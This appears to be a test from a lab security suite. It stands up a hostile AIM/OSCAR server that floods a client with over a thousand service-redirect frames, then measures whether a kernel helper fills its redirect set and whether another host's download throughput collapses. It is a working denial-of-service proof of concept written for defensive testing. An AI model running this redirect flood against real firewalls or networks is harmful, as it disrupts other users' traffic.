"""A hostile server that redirects its client to places of its choice, and downloads from one of them.

It does so before sign-on is over, and, to a client that asks for services, afterwards.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import threading
import time

from tests.attacks import network, wire
from tests.attacks.kit import say, verdict
from tests.lab import kernel_sets
from tests.lab.namespace import socket_in
from tests.lab.net import ADDRESS, SERVER, Lab
from tests.lab.scene import Scene, scene
from tests.lab.sockets import exactly
from tests.oscar.snac import SERVICE_REDIRECT, snac_frame
from tests.oscar.tlv import tlv

SIZE = 100 << 20
_numbers = itertools.count()  # of the server's connections
WEB = (SERVER, 8765)  # stands for any web server whose port is no well-known one
PLACES = [f"{WEB[0]}:{WEB[1]}", *(f"198.18.{n // 250}.{n % 250}:443" for n in range(1100))]
REQUESTS = b"".join(snac_frame((1, 4), b"\0\x18", number=2 + n, request=0) for n in range(8))
told = threading.Semaphore(0)
"""Released by the server when it has named all places on a connection."""


def hostile(end: socket.socket) -> None:
    """A server that redirects and redirects: on its first connection too early, later when it is asked."""
    early = next(_numbers) == 0
    exactly(end, len(wire.SIGN_ON))
    end.sendall(wire.SIGN_ON if early else wire.GREETING)
    if not early:
        exactly(end, len(REQUESTS))
    for number, place in enumerate(PLACES, 2 if early else 3):
        end.sendall(snac_frame(SERVICE_REDIRECT, tlv(5, place.encode()), number=number, request=0))
    told.release()
    time.sleep(600)


def redirected(lab: Lab, node: str, asks: bool, stack: contextlib.ExitStack) -> None:
    """A client on *node* signs on to that server and takes all that it says."""
    client = stack.enter_context(socket_in(lab, node))
    client.settimeout(30)
    client.connect((ADDRESS["bob"], 5190))
    client.sendall(wire.SIGN_ON)
    if asks:
        exactly(client, len(wire.GREETING))
        client.sendall(REQUESTS)
    client.settimeout(None)

    def read() -> None:
        with contextlib.suppress(OSError):
            while client.recv(65536):
                pass

    threading.Thread(target=read, daemon=True).start()
    assert told.acquire(timeout=60)


def web(end: socket.socket) -> None:
    piece = bytes(1 << 20)
    for _ in range(SIZE >> 20):
        end.sendall(piece)


def download(made: Scene) -> tuple[float, int]:
    """One of alice's from the web server: Mbit/s, and packets queued meanwhile."""
    queued = network.queued(made.lab)
    with socket_in(made.lab, "alice") as end:
        end.settimeout(60)
        end.connect(WEB)
        start, got = time.monotonic(), 0
        while got < SIZE and time.monotonic() - start < 30 and (part := end.recv(1 << 20)):
            got += len(part)
        return got * 8 / (time.monotonic() - start) / 1e6, network.queued(made.lab) - queued


def attack(node: str, what: str) -> None:
    """Have the server redirect clients on *node*, and look at *what*."""
    with scene() as made, contextlib.ExitStack() as stack:
        lab = made.lab
        network.serve(network.listen(lab, "bob"), hostile)
        network.serve(network.listen(lab, "server", WEB[1]), web)
        before = download(made)
        redirected(lab, node, False, stack)
        redirected(lab, node, True, stack)
        time.sleep(3)
        entries = len(kernel_sets.entries(lab, "A", "nfreaim_srv"))
        after, again = download(made), download(made)
        for when, (rate, queued) in (("before", before), ("after", after), ("again", again)):
            say(f"{when}: {rate:.0f} Mbit/s, {queued} packets queued")
        say("log: " + network.last_lines(made, "redirect"))
        say(f"{entries} entries of redirects; offloaded: {made.offloaded()}")
    vulnerable, rates = again[1] > 10000, f"{before[0]:.0f} -> {again[0]:.0f} Mbit/s"
    text = f"{what}: {rates}, {again[1]} packets of a download queued"
    verdict(vulnerable, text, control=int(entries) > 0)
